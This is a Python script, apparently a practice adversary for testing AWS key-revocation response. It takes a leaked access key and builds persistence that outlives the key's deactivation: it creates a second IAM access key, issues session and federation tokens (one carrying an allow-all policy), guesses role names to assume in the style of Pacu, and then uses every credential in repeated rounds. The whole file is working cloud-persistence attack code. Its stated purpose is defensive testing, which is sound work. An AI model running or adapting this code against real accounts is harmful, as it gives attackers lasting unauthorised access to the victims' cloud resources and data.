"""An attacker to practise against: a leaked access key, an endpoint, and nothing else.

Runs by itself (``python attacker.py``) with the leaked key in the environment. It lists objects in
S3, makes credentials that outlive the key, and then uses all of them, round after round, until its
input ends. Each outcome is one JSON line on standard output: which credential, allowed or not, the
error code, and when. Secrets stay in its memory.

The credentials are those that AWS documents to go on working when the key that made them is
deactivated: a second key (CreateAccessKey), and the sessions of GetSessionToken, GetFederationToken
and AssumeRole (STS API Reference). It guesses the role's name, as Pacu's ``iam__enum_roles`` does.
"""

from __future__ import annotations

import json
import os
import sys
import threading
import time
from contextlib import suppress
from functools import partial
from itertools import count
from typing import TYPE_CHECKING, Any

import boto3
from botocore.config import Config
from botocore.exceptions import BotoCoreError, ClientError

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

_ROLES = ("admin", "ci", "deploy", "deployment", "terraform")
_EVERYTHING = json.dumps(
    {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}
)
_QUICK = Config(
    retries={"total_max_attempts": 1},
    connect_timeout=5,
    read_timeout=15,
    s3={"addressing_style": "path"},
)
_PAUSE_S = 0.2

Keys = dict[str, str]


class Attacker:
    """Credentials, and how they are used."""

    def __init__(self, leaked: Keys) -> None:
        self._credentials: dict[str, Any] = {}
        self._sts: dict[str, Any] = {}
        self._keep("leaked key", leaked)
        self._bucket = ""
        self._role = ""
        self._roles: Any = None

    def settle_in(self) -> None:
        """Look around, and make credentials that do not depend on the leaked key."""
        self._bucket = self._credentials["leaked key"].list_buckets()["Buckets"][0]["Name"]
        iam, sts = _client("iam", self._keys), self._sts["leaked key"]
        self._keep("second key", _named(iam.create_access_key()["AccessKey"]))
        self._keep("session", _named(sts.get_session_token()["Credentials"]))
        federated = sts.get_federation_token(Name="backup", Policy=_EVERYTHING)
        self._keep("federated session", _named(federated["Credentials"]))
        account = sts.get_caller_identity()["Account"]
        for name in _ROLES:
            self._role = f"arn:aws:iam::{account}:role/{name}"
            try:
                self._keep("role session", _named(self._assume(sts)))
            except ClientError:
                continue
            return

    def round(self) -> Iterator[dict[str, Any]]:
        """Use every credential once, and try to make another session of the role."""
        for name, s3 in self._credentials.items():
            yield self._outcome(name, partial(s3.list_objects_v2, Bucket=self._bucket))
        yield self._outcome("another role session", self._another_session)
        self._look_for_rights()

    def _look_for_rights(self) -> None:
        """Ask IAM with the role's session whom there is to become, as Pacu's enumeration does."""
        if self._roles is not None:
            with suppress(ClientError, BotoCoreError):
                self._roles.list_roles()

    def _another_session(self) -> None:
        for last, sts in enumerate(list(self._sts.values()), start=1):
            try:
                fresh = _named(self._assume(sts))
            except ClientError:
                if last == len(self._sts):
                    raise
            else:
                _client("s3", fresh).list_objects_v2(Bucket=self._bucket)
                return

    def _assume(self, sts: Any) -> dict[str, Any]:
        assumed: dict[str, Any] = sts.assume_role(RoleArn=self._role, RoleSessionName="build-1337")
        credentials: dict[str, Any] = assumed["Credentials"]
        return credentials

    def _keep(self, name: str, keys: Keys) -> None:
        if name == "leaked key":
            self._keys = keys
        self._credentials[name] = _client("s3", keys)
        if name == "role session":
            self._roles = _client("iam", keys)
        # STS refuses a federated user, and the role does not trust itself.
        if name in ("leaked key", "second key", "session"):
            self._sts[name] = _client("sts", keys)
        _tell(made=name, key_id=keys["aws_access_key_id"], at=time.time())

    @staticmethod
    def _outcome(name: str, call: Callable[[], object]) -> dict[str, Any]:
        code = ""
        try:
            call()
        except ClientError as error:
            code = error.response.get("Error", {}).get("Code", "unknown")
        except BotoCoreError as error:
            code = type(error).__name__
        return {"credential": name, "allowed": not code, "code": code, "at": time.time()}


def main() -> None:
    """Make and use credentials until the input ends."""
    ended = threading.Event()
    threading.Thread(target=_wait_for_the_end, args=(ended,), daemon=True).start()
    environ = os.environ  # noqa: TID251 -- a script of its own: the leaked key is all it has
    attacker = Attacker(
        {
            "aws_access_key_id": environ["AWS_ACCESS_KEY_ID"],
            "aws_secret_access_key": environ["AWS_SECRET_ACCESS_KEY"],
        }
    )
    attacker.settle_in()
    for number in count(1):
        began = time.time()
        for outcome in attacker.round():
            _tell(**outcome)
        _tell(round=number, began=began)
        if ended.wait(_PAUSE_S):
            return


def _wait_for_the_end(ended: threading.Event) -> None:
    sys.stdin.read()
    ended.set()


def _client(service: str, keys: Keys) -> Any:
    return boto3.client(service, config=_QUICK, **keys)  # type: ignore[call-overload]  # noqa: TID251 -- the attacker's own client


def _named(issued: dict[str, Any]) -> Keys:
    keys = {
        "aws_access_key_id": issued["AccessKeyId"],
        "aws_secret_access_key": issued["SecretAccessKey"],
    }
    if "SessionToken" in issued:
        keys["aws_session_token"] = issued["SessionToken"]
    return keys


def _tell(**what: object) -> None:
    sys.stdout.write(json.dumps(what) + "\n")
    sys.stdout.flush()


if __name__ == "__main__":
    main()
